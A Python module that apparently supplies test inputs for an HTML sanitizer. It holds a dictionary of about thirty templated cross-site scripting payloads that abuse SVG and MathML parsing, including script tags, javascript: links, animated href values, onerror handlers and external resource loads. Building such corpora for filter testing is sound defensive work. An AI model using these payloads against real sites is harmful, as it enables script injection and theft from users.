"""Drawings and formulas: what a browser reads by other rules than the rest of a page (SVG, MathML)."""

# ruff: noqa: E501 - a payload is one text
from __future__ import annotations

FOREIGN = {
    "a script in a drawing": "<svg><script>{do}</script></svg>",
    "a script in a drawing by entities": "<svg><script>&#97;lert({n})</script></svg>",
    "a script in a drawing as raw text": "<svg><script><![CDATA[{do}]]></script></svg>",
    "a script in a drawing that is empty": "<svg><script href='data:,{do}'/></svg>",
    "a script in a drawing from elsewhere": "<svg><script href={far}></script></svg>",
    "a script in a drawing by the old name": "<svg><script xlink:href={far}></script></svg>",
    "a link in a drawing": "<svg><a href='javascript:{do}'><text y=9>x</text></a></svg>",
    "a link in a drawing by the old name": "<svg><a xlink:href='javascript:{do}'><text y=9>x</text></a></svg>",
    "a link in a drawing that is animated": (
        "<svg><a><animate attributeName=href values='javascript:{do}' begin=0s fill=freeze dur=1ms /><text y=9>x</text></a></svg>"
    ),
    "a link in a drawing that is set": "<svg><a><set attributeName=href to='javascript:{do}'/><text y=9>x</text></a></svg>",
    "a picture in a drawing": "<svg><image href={far} /></svg>",
    "a picture in a drawing by the old name": "<svg><image xlink:href={far} /></svg>",
    "a picture in a drawing that is set": "<svg><image width=9 height=9><set attributeName=href to='{far}' begin=0s /></image></svg>",
    "a part of another drawing": "<svg><use href={far}#a /></svg>",
    "a filter's picture": "<svg><filter id=f><feImage href={far} /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
    "a paint from elsewhere": "<svg><rect width=9 height=9 fill='url({far}#p)'/></svg>",
    "a mask from elsewhere": "<svg><rect width=9 height=9 mask='url({far}#p)'/></svg>",
    "a sheet of a drawing": "<svg><style>rect{filter:url({far}#p)}</style><rect width=9 height=9 /></svg>",
    "a page in a drawing": "<svg><foreignObject><img src=x onerror={do}></foreignObject></svg>",
    "a frame in a drawing": "<svg><foreignObject><iframe src='javascript:{do}'></iframe></foreignObject></svg>",
    "a drawing's title that is a page": "<svg><title><img src=x onerror={do}></title></svg>",
    "a drawing's description that is a page": "<svg><desc><img src=x onerror={do}></desc></svg>",
    "a handler of a drawing's part": "<svg><rect width=9 height=9 onclick={do} /></svg>",
    "a handler's element of a drawing": "<svg><handler type=text/javascript>{do}</handler><set onbegin={do} attributeName=x /></svg>",
    "a link in a formula": "<math><mtext><a href='javascript:{do}'>x</a></mtext></math>",
    "a formula that is a link": "<math href='javascript:{do}'><mi>x</mi></math>",
    "a formula's action": "<math><maction actiontype='statusline#{far}'>x<mtext>y</mtext></maction></math>",
    "a page in a formula": "<math><annotation-xml encoding=text/html><img src=x onerror={do}></annotation-xml></math>",
    "a page in a formula's words": "<math><mi><img src=x onerror={do}></mi></math>",
    "a drawing in a formula": "<math><annotation-xml><svg><script>{do}</script></svg></annotation-xml></math>",
    "a document with a sheet of another kind": '<?xml-stylesheet href="{far}"?><svg xmlns="http://www.w3.org/2000/svg" onload="{do}"/>',
}
